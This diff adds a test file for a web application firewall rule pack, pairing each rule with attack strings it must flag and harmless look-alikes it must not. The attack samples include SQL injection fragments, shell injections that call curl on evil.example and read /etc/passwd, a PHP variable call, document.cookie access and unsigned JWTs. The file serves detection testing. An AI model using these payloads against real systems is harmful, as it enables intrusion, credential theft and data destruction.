@@ -1,0 +1,133 @@
+/** Rules of our own pack, each with what it is for and with what ordinary requests have that looks like it. */
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { createEngine, ownRules } from '../../src/index.ts'
+import { inspect } from '../support/corpus.ts'
+import { get } from '../support/requests.ts'
+
+interface Examples {
+  readonly attacks: readonly string[]
+  readonly harmless: readonly string[]
+}
+
+const token = (header: string): string =>
+  [header, '{"sub":"1"}', ''].map((part) => Buffer.from(part).toString('base64url')).join('.')
+
+const EXAMPLES: Readonly<Record<string, Examples>> = {
+  'sp-sqli-quote-logic-function': {
+    attacks: [
+      "admin@shop.example' or json_valid(id);",
+      "x\\' or glob(id,id)--",
+      "1' and not ascii(name) > 64",
+    ],
+    harmless: [
+      "the users' and admins' rights (all of them)",
+      "if (name == '' && isOpen(name)) return",
+      "it's a (small) test; or not",
+    ],
+  },
+  'sp-sqli-quote-clause-comment': {
+    attacks: [
+      "z'or email notnull--",
+      "user'collate nocase--",
+      "' and email ilike email-- -",
+      "x') limit 1--",
+    ],
+    harmless: [
+      "it is your parents' and yours",
+      "O'Brien -- not in",
+      "my parents' and your friends' cat -- a story",
+      "don't or do -- as you like",
+    ],
+  },
+  'sp-sqli-logic-then-comparison': {
+    attacks: ['OR 1# ', 'or 1-- ', ') and 3/*'],
+    harmless: ['or 1 of 3', 'and 2; then the rest', 'or #1'],
+  },
+  'sp-sqli-delay': {
+    attacks: ['SELECT sLeEp (mOD(10,5))', "1' and sleep(5)"],
+    harmless: ['and sleep (eight hours) well', 'await sleep(delayMs)'],
+  },
+  'sp-sqli-server-functions': {
+    attacks: ['concat(0x223e,version())', 'select 0x616263'],
+    harmless: ['a colour such as 0x616263', 'concat(first, second)'],
+  },
+  'sp-sqli-cast-probe': {
+    attacks: ['1 current_user::int', 'f(a)::bigint', 'version()::double precision'],
+    harmless: ['std::vector<int>', 'fe80::1', 'the member Foo::name'],
+  },
+  'sp-sqli-json-operators': {
+    attacks: ["OR json_extract(data, '$.name') = 'a'", "x or '{\"a\":1}' @> '{}'"],
+    harmless: ['json_extract(data)', 'JSON or json_decode(text)'],
+  },
+  'sp-sqli-drop-truncate': {
+    attacks: ['DROP sampletable;--'],
+    harmless: ['drop me a line; thanks', 'drop it -- now'],
+  },
+  'sp-sqli-empty-exponent': {
+    attacks: ['1.e(ascii', '1.e.tables', '1.e union select 2'],
+    harmless: ['1.5e3', '2.e4', 'see 1.e for more', 'v1.e2e.test'],
+  },
+  'sp-rce-quoted-program': {
+    attacks: [';"curl" http://evil.example', "x|'cat' /etc/hosts"],
+    harmless: ['say "cat" and "dog"; "find" them', 'a; "id" is a column'],
+  },
+  'sp-rce-expansion-trick': {
+    attacks: ['/usr/bin/[u]name', 'cat /et$$c/passwd', ';cat<<<x'],
+    harmless: ['/docs/[slug]/page', 'it costs US$$5', 'a <<< b'],
+  },
+  'sp-os-file': {
+    attacks: [
+      'C:\\Windows\\System32\\drivers\\etc\\hosts',
+      'c:/windows/win.ini',
+      '/windows/system32/cmd.exe',
+    ],
+    harmless: ['C:\\Windows\\System32', 'installed in C:\\Windows'],
+  },
+  'sp-php-variable-call': {
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is how PHP writes it
+    attacks: ['$a[0]($_GET[1])', '${x}(1);'],
+    harmless: ['$a[]()', '$a{}()', 'costs $5 (about)'],
+  },
+  'sp-xss-dom-sink': { attacks: ['x=document.cookie'], harmless: ['a document about cookies'] },
+  'sp-jwt-unsigned': {
+    attacks: [token('{"alg":"none"}'), token('{ "typ": "JWT", "alg" : "NONE" }')],
+    harmless: [token('{"alg":"RS256","typ":"JWT"}'), token('{"alg":"HS256","kid":"none"}')],
+  },
+}
+
+for (const [id, { attacks, harmless }] of Object.entries(EXAMPLES))
+  test(id, async () => {
+    const engine = createEngine([ownRules()])
+    const firedBy = async (text: string): Promise<boolean> => {
+      const { hits } = await inspect(engine, get(`/?q=${encodeURIComponent(text)}`))
+      return hits.some(({ rule }) => rule === id)
+    }
+    for (const text of attacks) assert.equal(await firedBy(text), true, text)
+    for (const text of harmless) assert.equal(await firedBy(text), false, text)
+    engine.dispose()
+  })
+
+test('a statement is seen in a path that its comments cut into segments, and pages named after properties are not', async () => {
+  const engine = createEngine([ownRules()])
+  const rulesAt = async (target: string): Promise<string[]> =>
+    (await inspect(engine, get(target))).hits.map(({ rule }) => rule)
+  assert.ok((await rulesAt('/get/if(now()=sysdate(),sleep(/*comment*/12),0)/')).includes('sp-sqli-delay'))
+  assert.deepEqual(await rulesAt('/docs/web/api/document.cookie'), [])
+  engine.dispose()
+})
+
+test('quotes that a database would turn into plain ones are read as such', async () => {
+  const engine = createEngine([ownRules()])
+  const hitsOf = async (text: string): Promise<number> =>
+    (await inspect(engine, get(`/?q=${encodeURIComponent(text)}`))).hits.length
+  for (const quote of ['\u2018', '\u2019', '\u02bc', '\u00b4', '\u2032'])
+    assert.ok((await hitsOf(`${quote} or ${quote}1${quote}=${quote}1`)) > 0, quote)
+  for (const text of [
+    'don\u2019t worry, it\u2019s \u2018fine\u2019',
+    'l\u2019\u00e9t\u00e9 et l\u2019hiver',
+    'it\u2019s 6\u20325 or 7',
+  ])
+    assert.equal(await hitsOf(text), 0, text)
+  engine.dispose()
+})
